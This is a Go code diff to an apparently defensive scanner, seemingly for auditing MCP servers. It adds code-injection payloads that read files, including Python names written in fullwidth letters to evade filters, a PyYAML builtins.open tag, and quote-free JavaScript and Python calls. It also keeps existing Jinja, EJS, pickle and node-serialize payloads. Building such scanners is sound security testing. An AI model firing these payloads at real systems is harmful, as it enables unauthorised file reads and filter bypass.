@@ -4,6 +4,7 @@ import (
 	"cmp"
 	"encoding/base64"
 	"slices"
+	"strconv"
 	"strings"
 
 	"github.com/mcpaudit/mcpaudit/runner/inputs"
@@ -22,6 +23,14 @@ const (
 	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 	escaped = `this.constructor.constructor("return pro"+"cess")()["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 )
+
+// wideNames is python with each name in full width in part, which Python reads as the plain one (NFKC) and a filter does not.
+var wideNames = dunder.ReplaceAllStringFunc(strings.Replace(python, `"open"`, `"op"+"en"`, 1), func(name string) string {
+	return "_＿" + string(rune(name[2])-'a'+'ａ') + name[3:len(name)-2] + "_＿"
+})
+
+// dunder matches the names of attributes that each object of Python has.
+var dunder = lazyregexp.New(`__[a-z]+__`)
 
 // serialized is JSON with a function that node-serialize calls.
 var serialized = `{"x":"_$$ND_FUNC$$_function(){` + strings.ReplaceAll(machine, `"`, `'`) + `}()"}`
@@ -57,6 +66,10 @@ var codeForms = []form{
 	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
 	evaluated("in a string of Python that is formatted", `{open("@")}`),
+	evaluated("as an expression of Python with letters in full width", wideNames),
+	evaluated("as YAML of Python whose tag is written in full", `!<tag:yaml.org,2002:python/object/apply:builtins.open> ["@"]`),
+	unquoted("as an expression of JavaScript without quotes", "globalThis.process.getBuiltinModule(String.fromCharCode(102,115)).readFileSync(String.fromCharCode(@))"),
+	unquoted("as a call of open without quotes", "open(bytes((@)))"),
 	evaluated("in a template of Mako", "${"+python+"}"),
 	evaluated("in a template of Python that has braces", "{{ "+python+" }}"),
 	inBase64("as a pickle of Python, in Base64", "cbuiltins\nopen\n(V@\ntR."),
@@ -105,7 +118,7 @@ func (a Attempt) Formatted() bool {
 var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 
 const (
-	maxCode       = 72 // attempts on one target
+	maxCode       = 80 // attempts on one target
 	maxCodeFields = 2  // fields for all forms
 	likelyCode    = 4  // forms for the other fields
 )
@@ -158,6 +171,17 @@ func (s step) notation() int {
 func evaluated(name, expression string) form {
 	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
 		return f.before + strings.ReplaceAll(expression, "@", file(number)) + f.behind
+	}}
+}
+
+// unquoted is a form with an expression, in which "@" stands for the codes of the file's name.
+func unquoted(name, expression string) form {
+	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
+		var codes []string
+		for _, c := range []byte(file(number)) {
+			codes = append(codes, strconv.Itoa(int(c)))
+		}
+		return f.before + strings.ReplaceAll(expression, "@", strings.Join(codes, ",")) + f.behind
 	}}
 }
 
